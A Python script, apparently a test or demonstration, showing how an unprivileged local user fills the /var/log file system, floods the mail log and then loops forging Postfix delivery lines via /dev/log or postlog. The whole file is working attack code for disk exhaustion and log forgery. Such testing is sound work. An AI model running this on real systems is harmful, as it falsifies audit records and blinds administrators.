"""fill.py WAY WORDS FLOOD: what a local user can do to a log whose file system he can fill, as uid 65534.

Waits for the test message in the queue, fills the file system of /var/log by a file of his own there, fills the last page of the
log, too, and logs FLOOD further bytes. Once the queue is done with the message, he gives the room back, and logs in a loop
that the relay said WORDS, until he is killed. WAY: syslog, or postlog (Postfix writes its log itself).
"""

import os
import re
import socket
import subprocess
import sys
import time

WAY, WORDS, FLOOD = sys.argv[1], sys.argv[2], int(sys.argv[3])
PAGE = 4096
LEFT = 512
LOG = {'syslog': '/var/log/maillog', 'postlog': '/var/log/postfix.log'}[WAY]


def queue_id():
    queue = subprocess.run(['postqueue', '-p'], capture_output=True, text=True, check=False).stdout
    found = re.search(r'(?m)^([0-9A-Za-z]{6,})[*!]?\s', queue)
    return found and found[1]


def room():
    left = os.statvfs('/var/log')
    return left.f_bavail * left.f_frsize


def fill(file, size):
    while room() > 0:
        more = room()
        os.posix_fallocate(file, size, more)
        size += more


def say(daemon, text):
    if WAY == 'postlog':
        subprocess.run(['postlog', '-t', f'postfix/{daemon}', text], stderr=subprocess.DEVNULL, check=False)
        return
    log.send(f'<22>{time.strftime("%b %e %H:%M:%S")} postfix/{daemon}[4000]: {text}'.encode())


assert os.getuid() == 65534
log = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
log.connect('/dev/log')
own = os.open('/var/log/pub/x', os.O_CREAT | os.O_RDWR)
most = room() - LEFT * PAGE
os.posix_fallocate(own, 0, most)
print('ready', flush=True)
while not (known := queue_id()):
    pass
fill(own, most)
last = PAGE - os.stat(LOG).st_size % PAGE
say('x', 'z' * max(last - 60, 1))
for _ in range(FLOOD // 1000):
    say('x', 'z' * 950)
print('filled', room(), flush=True)
while queue_id():
    time.sleep(0.02)
time.sleep(0.2)
os.ftruncate(own, 0)
print('freed', flush=True)
while True:
    say('smtp', f'{known}: to=<ops@example.com>, relay=smtp.example.com[192.0.2.1]:587, delay=1, delays=0/0/1/0, {WORDS}')
    time.sleep(0.2)
